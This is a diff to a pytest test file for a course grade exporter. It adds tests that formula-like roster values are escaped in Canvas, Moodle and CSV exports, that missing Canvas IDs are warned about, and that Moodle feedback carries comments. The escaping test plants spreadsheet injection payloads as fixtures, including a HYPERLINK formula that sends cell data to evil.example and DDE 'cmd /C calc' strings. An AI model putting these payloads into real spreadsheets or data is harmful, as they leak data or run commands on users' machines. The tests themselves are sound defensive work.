@@ -28,10 +28,11 @@ def course(tmp_path, empty_gradebook):
         gb.add_assignment("a1")
         gb.add_notebook("nb", "a1")
         gb.add_grade_cell("test_f", "nb", "a1", max_score=4, cell_type="code")
+        gb.add_solution_cell("answer_why", "nb", "a1")  # a written answer: takes a comment
         gb.add_student("ann", first_name="Ann", last_name="Lee", email="ann@example.org",
                        lms_user_id="101")
-        for student in ("bob", "cat", "dan"):
-            gb.add_student(student, email=f"{student}@example.org")
+        for number, student in enumerate(("bob", "cat", "dan"), start=102):
+            gb.add_student(student, email=f"{student}@example.org", lms_user_id=str(number))
         with warnings.catch_warnings():  # nbgrader's add_submission trips an autoflush warning
             warnings.simplefilter("ignore", SAWarning)
             gb.add_submission("a1", "ann")
@@ -144,3 +145,71 @@ def test_a_student_whose_files_were_not_collected_gets_no_zero(course, tmp_path)
     write_not_collected(course, "a1", {}, collected=["dan"])
     export(course, "a1", "moodle", dest)
     assert ["dan@example.org", "dan", "0", "no submission"] in _rows(dest)
+
+
+def test_cells_a_spreadsheet_would_run_are_text_and_scores_stay_numbers(course, tmp_path):
+    """Review 21b, hole 8: roster names and sections that are spreadsheet formulas are written
+    with a leading ' in every export (OWASP's advice); numbers stay numbers."""
+    import json
+
+    with course.gradebook() as gb:
+        eve = gb.find_student("cat")
+        eve.first_name, eve.last_name = "Eve", '=HYPERLINK("http://evil.example/?"&D3)'
+        gb.find_student("bob").last_name = "@SUM(1+9)*cmd|' /C calc'!A0"
+        gb.db.commit()
+    (course.output_root / "roster_lms.json").write_text(json.dumps(
+        {"ann": {"sis_user_id": "-9351", "section": "=1+1"}}))
+    write_status(course, "a1", {"student": "bob", "assignment": "a1", "status": "failed",
+                                "reason": "+cmd|' /C calc'!A0 in a file name", "score": 0.0,
+                                "max_score": 4.0, "cells": {}})
+    export(course, "a1", "canvas", tmp_path / "canvas.csv", column="=Notebook (42)")
+    rows = _rows(tmp_path / "canvas.csv")
+    assert rows[0][-1] == "'=Notebook (42)"
+    by_login = {row[3]: row for row in rows[2:]}
+    assert by_login["cat"][0] == '\'=HYPERLINK("http://evil.example/?"&D3), Eve'
+    assert by_login["bob"][0] == "'@SUM(1+9)*cmd|' /C calc'!A0"
+    # a negative SIS id is a number, the section a formula; the score reads back as a number
+    assert by_login["ann"][:5] == ["Lee, Ann", "101", "-9351", "ann", "'=1+1"]
+    assert float(by_login["ann"][-1]) == 3.0 and float(rows[1][-1]) == 4.0
+    export(course, "a1", "moodle", tmp_path / "moodle.csv")
+    feedback = {row[0]: row[3] for row in _rows(tmp_path / "moodle.csv")[1:]}
+    assert feedback["bob@example.org"].startswith("could not be graded: +cmd")
+    for cell in (cell for row in _rows(tmp_path / "moodle.csv") for cell in row):
+        assert not cell.startswith(("=", "+", "@")), cell
+    export(course, "a1", "csv", tmp_path / "grades.csv")
+    for row in _rows(tmp_path / "grades.csv"):
+        assert not any(cell.startswith(("=", "+", "@")) for cell in row), row
+
+
+def test_a_canvas_export_of_a_course_without_canvas_ids_is_refused_or_warned(course, tmp_path):
+    """Review 23b, R8: Canvas matches an import by its ID column; empty ids are never written
+    silently."""
+    dest = tmp_path / "canvas.csv"
+    with course.gradebook() as gb:
+        gb.find_student("dan").lms_user_id = None
+        gb.db.commit()
+    lines = []
+    export(course, "a1", "canvas", dest, warn=lines.append)
+    assert lines == ["1 student without a Canvas user id (dan): their rows have an empty 'ID', "
+                     "which Canvas cannot match; import Canvas's gradebook export (`dlcourse "
+                     "roster import`) to add the ids"]
+    dest.unlink()
+    with course.gradebook() as gb:  # a Moodle course: nobody has one
+        for student in gb.students:
+            student.lms_user_id = None
+        gb.db.commit()
+    with pytest.raises(ValueError, match=r"format: no student of this course has a Canvas "
+                                         r"user id .*export --format moodle or csv"):
+        export(course, "a1", "canvas", dest)
+    assert not dest.exists()
+
+
+def test_the_moodle_feedback_carries_the_hand_grade_comments(course, tmp_path):
+    """Review 23b, R8: the comment of `dlcourse mark --comment` reaches Moodle's feedback."""
+    with course.gradebook() as gb:  # where `dlcourse mark` and formgrader keep a comment
+        gb.find_comment("answer_why", "nb", "a1", "ann").manual_comment = \
+            "Gut,\n  klar begründet"
+        gb.db.commit()
+    dest = tmp_path / "moodle.csv"
+    export(course, "a1", "moodle", dest)
+    assert ["ann@example.org", "ann", "3", "answer_why: Gut, klar begründet"] in _rows(dest)
